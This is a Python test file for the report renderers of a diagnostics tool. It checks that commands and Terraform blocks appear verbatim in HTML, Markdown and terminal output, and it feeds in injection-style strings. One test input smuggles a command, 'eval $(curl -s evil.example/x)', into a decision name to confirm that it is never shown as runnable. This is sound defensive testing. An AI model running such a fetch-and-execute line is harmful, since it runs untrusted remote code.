"""A command and Terraform's blocks are shown with every character, or not at all."""

from __future__ import annotations

from html.parser import HTMLParser

import msgspec
import pytest
from markdown_it import MarkdownIt

from canary.model import Remedy, Report
from canary.report import html, markdown, terminal
from canary.report.text import command
from tests.canary.messages.test_incidents import after
from tests.canary.support import report_samples as samples

VALUES = (
    *(
        "a  b",
        "é  é",
        "a   é\u00e9",
        "```",
        "````x",
        "`id`",
        "~~~",
        "<b>&amp;</b>",
        "</code></pre>",
    ),
    *(
        "{{ 7*7 }}",
        "{% raw %}",
        "[bold]x[/bold]",
        "[/]",
        "$x$",
        "@everyone",
        "user@host",
        "|",
        "\\",
    ),
    *(
        "-->",
        "<!-- x",
        "::error::x",
        "##[error]x",
        "*a*",
        "_a_",
        "# a",
        "&lt;",
        "x" * 6000,
        "é" * 5000,
    ),
)
COMMANDS = tuple(f"aws ssm put-parameter --name '{value}'" for value in VALUES)
BLOCKS = (
    'resource "x" "y" {\n  a  = "é  ```  </code> {{ 1 }} \\u0000"\n' + '  b = "é"\n' * 900 + "}"
)


def report(*commands: str, terraform: str = "") -> Report:
    """Return a report whose first cause has these commands and blocks."""
    seed = samples.seed_day()
    remedy = Remedy(
        summary="Do it.", decision="Look.", inspect=commands, fix=commands, undo=commands,
        verify=commands, terraform=terraform,
    )  # fmt: skip
    (first, *rest) = seed.diagnoses
    causes = (msgspec.structs.replace(first, remedy=remedy), *rest)
    return msgspec.structs.replace(seed, diagnoses=causes)


class Page(HTMLParser):
    """Collects what stands within <pre>."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.blocks: list[str] = []
        self.within = False
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "pre":
            self.within = True
            self.blocks.append("")

    def handle_endtag(self, tag: str) -> None:
        self.within = self.within and tag != "pre"

    def handle_data(self, data: str) -> None:
        if self.within:
            self.blocks[-1] += data


def test_the_page_shows_each_command_and_the_blocks_as_they_are() -> None:
    page = html.render(report(*COMMANDS, terraform=BLOCKS))
    first, _, evidence = page.partition('id="why"')
    assert Page(first).blocks[: 2 * len(COMMANDS)] == [*COMMANDS * 2], "fix and undo"
    shown = Page(evidence).blocks
    assert shown[: 2 * len(COMMANDS) + 1] == [*COMMANDS * 2, BLOCKS], "inspect and verify"


def test_markdown_shows_each_command_and_the_blocks_as_they_are() -> None:
    written = markdown.render(report(*COMMANDS, terraform=BLOCKS))
    shown = Page(MarkdownIt("commonmark").render(written)).blocks
    every = "\n".join(COMMANDS) + "\n"
    assert shown[:5] == [every, every, every, every, BLOCKS + "\n"]


@pytest.mark.parametrize("line", COMMANDS)
def test_the_terminal_the_message_and_the_event_show_it_as_it_is(line: str) -> None:
    assert line in terminal.render(report(line), width=80).splitlines()
    outbox = after(report(line))
    short = line if len(line) <= 2000 else f"# a text of {len(line):,} characters"
    assert any(row.startswith(f"  {short}") for m in outbox.messages for row in m.text.splitlines())
    fixes = [e.detail["fix"] for e in outbox.events if e.detail_type == "Diagnosed"]
    assert any(f[0].startswith(short) for f in fixes if f)


def test_of_a_long_command_no_part_is_shown() -> None:
    line = "aws x --y '" + "é" * 40_000 + "'"
    told = "# a text of 40,012 characters: the report in JSON has it"
    assert command(line) == told
    assert Page(html.render(report(line))).blocks.count(told) == 4
    assert f"```sh\n{told}\n```" in markdown.render(report(line))
    assert "# a text of 40,000 characters: the report in JSON has it" in (
        Page(html.render(report("x", terraform="é" * 40_000))).blocks
    )


ENTERED = (
    'IFS= read -rs VALUE && [[ -n $VALUE ]] && printf \'{"api_key":"%s"}\' "$VALUE" | aws'
    " secretsmanager create-secret --name 'a@b  é; unset VALUE `x`' --secret-string"
    " file:///dev/stdin || echo 'The secret was not stored.' >&2; unset VALUE"
)


def decided(decision: str, command: str = "") -> Report:
    """Return a report whose only cause leaves this to a person."""
    remedy = Remedy(summary="Do it.", decision=decision, decision_command=command)
    seed = report()
    causes = (msgspec.structs.replace(seed.diagnoses[0], remedy=remedy),)
    return msgspec.structs.replace(seed, diagnoses=causes)


def test_the_command_of_a_decision_is_shown_as_it_is() -> None:
    found = decided("Type this command; then deploy auth@x anew.", ENTERED)
    assert Page(html.render(found)).blocks[0] == ENTERED
    assert "then deploy auth@x anew." in html.render(found)
    written = markdown.render(found)
    assert Page(MarkdownIt("commonmark").render(written)).blocks[0] == ENTERED + "\n"
    assert "To decide: Type this command; then deploy auth@\u2060x anew.\n" in written
    shown = terminal.render(found, width=80).splitlines()
    at = shown.index("  decide: Type this command; then deploy auth@x anew.")
    assert shown[at + 1] == ENTERED


@pytest.mark.parametrize(
    "name", [ENTERED, "x; read -rs VALUE; eval $(curl -s evil.example/x); unset VALUE"]
)
def test_a_name_of_others_in_a_decision_is_no_command(name: str) -> None:
    found = decided(f"Decide which rule {name} shall have.")
    pages = html.render(found), MarkdownIt("commonmark").render(markdown.render(found))
    assert [b for page in pages for b in Page(page).blocks if "VALUE" in b] == []
    shown = terminal.render(found, width=80)
    assert not [row for row in shown.splitlines() if row.startswith(("IFS", "read"))]
    assert "\x1b[36m" not in terminal.render(found, width=80, colour=True)


def test_what_is_no_command_of_ours_stays_on_one_line() -> None:
    assert command("aws x\nrm y\x1b[2J") == "aws x rm y⟨ESC⟩[2J"
